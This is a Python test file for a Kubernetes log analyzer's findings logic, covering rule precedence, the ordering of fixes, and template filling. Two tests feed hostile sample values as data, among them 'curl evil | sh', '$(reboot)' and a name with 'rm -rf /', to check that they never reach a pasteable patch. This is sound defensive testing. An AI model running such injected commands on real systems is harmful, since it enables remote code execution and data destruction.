"""Evaluation: the order of findings and fixes, what is filled into texts, and what a hostile cluster file can do."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from analyzer.findings.evaluate import fill, findings, ordered
from analyzer.findings.facts import SCHEMA
from analyzer.findings.model import Fix, leading
from analyzer.findings.rules import load_findings

RULES = load_findings()


def facts(*rows: dict[str, Any]) -> pl.DataFrame:
    """Make rows of facts; the others are null."""
    return pl.DataFrame([{name: row.get(name) for name in SCHEMA} for row in rows], schema=SCHEMA, orient="row")


LOST = {
    "node_pct": 85.1, "client_pct": 14.9, "external_traffic_policy": "Cluster", "preserved_end_pct": 14.9,
    "service": "web/front", "service_namespace": "web", "service_name": "front", "pods": 2, "nodes": 3,
}  # fmt: skip


def fix(text: str, platform: str = "any", controller: str = "any", load_balancer: str = "any") -> Fix:
    """Make a fix."""
    return Fix(platform, controller, load_balancer, text, None, None, "logscan", "https://example.org")


def test_the_special_finding_replaces_the_general_one() -> None:
    """Where k3s's load balancer is why, nobody is told of kube-proxy."""
    plain = findings(RULES, facts(LOST))
    assert [each.id for each in plain] == ["external-traffic-policy-cluster"]
    k3s = findings(RULES, facts({**LOST, "load_balancer": "klipper", "klipper_pct": 0.0, "pod_pct": 0.0}))
    assert [each.id for each in k3s] == ["klipper-masquerade"]


def test_behind_cilium_ingress_local_is_no_advice() -> None:
    """The usual advice is not given, in the finding's fixes neither."""
    (found,) = findings(RULES, facts({**LOST, "controller": "cilium", "kube_proxy_mode": "cilium"}))
    assert found.id == "cilium-ingress"
    assert "externalTrafficPolicy" not in " ".join(f"{each.text} {each.patch}" for each in found.fixes)


def test_grave_and_large_come_first() -> None:
    """Errors stand before warnings, and of errors the one that explains more of the loss."""
    both = {**LOST, "node_pct": 70.0, "cdn_pct": 20.0, "pods": 2, "unknown_keys": ["x is not read"]}
    found = findings(RULES, facts(both))
    assert [each.id for each in found] == ["external-traffic-policy-cluster", "cdn-edge-logged", "misspelt-setting"]
    assert leading(found, lost=True) is found[0]


def test_what_leads() -> None:
    """Where addresses are lost what explains it leads, else an error; a warning never leads a sound log."""
    error, explaining = findings(
        RULES, facts({"trust_verdict": "spoofed", "private_pct": 50.0, "preserved_end_pct": 50.0})
    )
    assert (error.id, explaining.id) == ("forged-addresses", "private-addresses-unexplained")
    assert leading([error, explaining], lost=True) is explaining
    assert leading([error, explaining], lost=False) is error
    assert leading([explaining], lost=False) is None
    assert leading([], lost=True) is None


def test_several_ways_in_are_one_finding() -> None:
    """Two Services with the same fault make one finding that names both."""
    other = {**LOST, "service": "web/second"}
    (found,) = findings(RULES, facts(LOST, other, {**LOST, "external_traffic_policy": "Local", "pods": None}))[:1]
    assert found.because == "externalTrafficPolicy is Cluster on web/front: nodes masquerade"
    assert found.evidence["also"] == ["web/second"]


def test_evidence_is_what_is_known() -> None:
    """Facts that are null or empty are left out of the evidence."""
    (found,) = findings(RULES, facts({**LOST, "local_elsewhere": []}))
    assert found.evidence == {"service": "web/front", "external_traffic_policy": "Cluster", "node_pct": 85.1}
    assert found.share_pct == 85.1


def test_fixes_for_what_was_recognised_come_first() -> None:
    """The closest first; what is for another platform is left out; what is not known here is an alternative."""
    fixes = [
        fix("for all"),
        fix("gke", "gcp"),
        fix("eks", "aws"),
        fix("eks with an NLB", "aws", load_balancer="aws-nlb-ip aws-nlb"),
        fix("kong", controller="kong"),
        fix("nginx", controller="ingress-nginx"),
    ]
    found = ordered(fixes, {"platform": "eks", "cloud": "aws", "controller": "ingress-nginx"})
    assert [(each.text, each.recognised) for each in found] == [
        ("nginx", True), ("eks", True), ("for all", True), ("eks with an NLB", False),
    ]  # fmt: skip
    known = {"platform": "eks", "cloud": "aws", "controller": "kong", "load_balancer": "aws-nlb"}
    assert [each.text for each in ordered(fixes, known)] == ["eks with an NLB", "kong", "eks", "for all"]
    nothing = ordered(fixes, {})
    assert [each.text for each in nothing if each.recognised] == ["for all"]
    assert len(nothing) == len(fixes)


def test_names_of_a_platform_and_of_its_provider_both_fit() -> None:
    """A fix for AWS fits EKS and a self-made cluster there; one for EKS fits EKS alone."""
    for platform, texts in {"eks": ["aws", "eks"], "aws": ["aws"]}.items():
        found = ordered([fix("aws", "aws"), fix("eks", "eks")], {"platform": platform, "cloud": "aws"})
        assert [each.text for each in found] == texts


def test_facts_are_filled_in() -> None:
    """A sentence has numbers as they are read, a patch as they are; what is not known is named."""
    known = {"requests": 1234567, "node_pct": 85.123, "trusted": ["a", "b", "c", "d"], "service": "web/front"}
    text = "{{requests}} {{node_pct}} {{trusted}} {{service}} {{namespace}}"
    assert fill(text, known, to_paste=False) == "1,234,567 85.1 a, b, c and 1 more web/front <namespace>"
    assert fill("{{requests}} {{service}}", known, to_paste=True) == "1234567 web/front"


@pytest.mark.parametrize(
    "name", ["x; curl evil | sh", "$(reboot)", "a b", "`id`", "'", "a\nb", "x" * 300, "\u202ex", ""]
)
def test_a_hostile_name_never_gets_into_a_patch(name: str) -> None:
    """What is there to be pasted into a shell takes plain names alone from a cluster file."""
    assert (
        fill("kubectl patch {{service_name}}", {"service_name": name}, to_paste=True) == "kubectl patch <service_name>"
    )


def test_a_hostile_cluster_reaches_no_patch() -> None:
    """The same through a whole finding."""
    hostile = {**LOST, "service_name": "x'; rm -rf /; '", "controller": "ingress-nginx"}
    (found,) = findings(RULES, facts(hostile))
    patches = [each.patch for each in found.fixes if each.patch]
    assert patches
    assert not any("rm -rf" in patch for patch in patches)
    assert any("<service_name>" in patch for patch in patches)


def test_a_null_makes_nothing_true() -> None:
    """A rule over facts that are not known does not hold, whatever it says of them."""
    rule = replace(RULES[0], condition="NOT (is_proxying)", file=Path("x.toml"))
    assert findings([rule], facts({})) == []
